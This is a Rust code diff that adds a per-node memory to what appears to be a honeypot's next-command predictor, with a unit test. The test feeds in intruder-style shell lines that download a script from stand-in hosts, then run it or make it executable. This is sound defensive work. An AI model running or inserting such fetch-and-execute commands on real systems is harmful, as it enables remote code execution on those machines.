@@ -5,6 +5,10 @@
 //! three right, or a miss) as a `mirage.prediction` event and in the node's metrics, then
 //! joins the context and the model guesses the command after it.
 //!
+//! With a node memory (a live node's, [`crate::models::memory`]) the guesses mix in what the
+//! node's finished sessions typed, and the session's commands (up to
+//! [`memory::MAX_COMMANDS`]) join the memory when it ends ([`Predictor::finish`]).
+//!
 //! Without a next-command model nothing is kept and nothing is emitted.
 
 use std::sync::Arc;
@@ -16,7 +20,9 @@ use crate::metrics::Metrics;
 use crate::models::Models;
 use crate::models::commands::Command;
 use crate::models::context::{Login, SessionContext};
-use crate::models::markov::Prediction;
+use crate::models::markov::{Markov, Prediction};
+use crate::models::memory::{self, NodeMemory};
+use crate::models::normalize::Normalized;
 use crate::models::normalize::normalize_command;
 
 /// Guesses made for each next command (top-3 accuracy needs three).
@@ -41,6 +47,12 @@ pub(super) struct Predictor {
     standing: Option<Vec<Prediction>>,
     /// Commands scored so far.
     scored: usize,
+    /// The node memory the session predicts with and joins when it ends (`None`: none).
+    memory: Option<Arc<NodeMemory>>,
+    /// The login, for the memory.
+    login: Login,
+    /// The session's first commands, for the memory (empty without one).
+    commands: Vec<Normalized>,
 }
 
 impl Predictor {
@@ -53,6 +65,34 @@ impl Predictor {
             context: SessionContext::new(login),
             standing: None,
             scored: 0,
+            memory: None,
+            login: login.clone(),
+            commands: Vec::new(),
+        }
+    }
+
+    /// This predictor with the node's memory (`None`: none).
+    pub(super) fn with_memory(mut self, memory: Option<Arc<NodeMemory>>) -> Predictor {
+        self.memory = memory;
+        self
+    }
+
+    /// The session ended: its commands join the node memory (once; nothing without one or
+    /// without a model).
+    pub(super) fn finish(&mut self) {
+        let commands = std::mem::take(&mut self.commands);
+        if let (Some(memory), Some(markov)) = (self.memory.take(), self.models.markov.as_ref())
+            && !commands.is_empty()
+        {
+            memory.remember(markov, &self.login, &commands);
+        }
+    }
+
+    /// The guesses for the next command, with the node memory when there is one.
+    fn guess(&self, markov: &Markov) -> Vec<Prediction> {
+        match &self.memory {
+            Some(memory) => memory.predict(markov, &self.context, TOP_K),
+            None => markov.predict_in(&self.context, TOP_K),
         }
     }
 
@@ -79,10 +119,7 @@ impl Predictor {
                 continue;
             }
             truncate(&mut command.token, MAX_TOKEN_BYTES);
-            let guesses = self
-                .standing
-                .take()
-                .unwrap_or_else(|| markov.predict_in(&self.context, TOP_K));
+            let guesses = self.standing.take().unwrap_or_else(|| self.guess(markov));
             let hit_top1 = guesses.first().is_some_and(|g| g.token == command.token);
             let hit_top3 = guesses.iter().any(|g| g.token == command.token);
             metrics.record_prediction(hit_top1, hit_top3);
@@ -101,7 +138,10 @@ impl Predictor {
                 model: models.version().to_owned(),
             });
             self.context.push(&command, Some(seconds));
-            self.standing = Some(markov.predict_in(&self.context, TOP_K));
+            if self.memory.is_some() && self.commands.len() < memory::MAX_COMMANDS {
+                self.commands.push(command);
+            }
+            self.standing = Some(self.guess(markov));
         }
         events
     }
@@ -261,6 +301,43 @@ mod tests {
         let events = scored(&p.observe_now(&long, &metrics));
         assert!(events[0].0.len() <= MAX_TOKEN_BYTES);
         assert!(events[0].0.starts_with("echo é"));
+    }
+
+    #[test]
+    fn a_finished_session_teaches_the_node_memory_the_next_sessions_command() {
+        // The model is unsure what follows the download; the campaign now runs chmod.
+        let seen = |lines: &[&str]| -> Vec<Normalized> {
+            lines.iter().flat_map(|l| normalize_line(l)).collect()
+        };
+        let a = seen(&["cd /tmp", "wget http://a/x.sh", "sh x.sh"]);
+        let b = seen(&["cd /tmp", "wget http://a/x.sh", "curl -O http://a/x.sh"]);
+        let mut set = Models {
+            markov: Some(Markov::trained(3, [a.as_slice(), b.as_slice()])),
+            ..Models::default()
+        };
+        set.manifest.version = "0123456789ab".into();
+        let set = Arc::new(set);
+        let memory = Arc::new(NodeMemory::default());
+        let metrics = Metrics::new();
+        let session = || predictor(set.clone()).with_memory(Some(memory.clone()));
+        let script = "cd /tmp; wget http://c/y.sh; chmod 777 y.sh";
+        let mut first = session();
+        assert_eq!(
+            scored(&first.observe_now(script, &metrics))[2].3.as_deref(),
+            Some("curl -O <URL>")
+        );
+        // Not yet ended: the next session knows nothing of it.
+        let mut overlapping = session();
+        assert!(!scored(&overlapping.observe_now(script, &metrics))[2].1);
+        first.finish();
+        first.finish();
+        assert_eq!(memory.sessions(), 1, "a session joins the memory once");
+        let mut second = session();
+        let events = scored(&second.observe_now(script, &metrics));
+        assert!(events[2].1, "{events:?}");
+        // Without the memory the model's guess stands.
+        let mut alone = predictor(set.clone());
+        assert!(!scored(&alone.observe_now(script, &metrics))[2].1);
     }
 
     #[test]
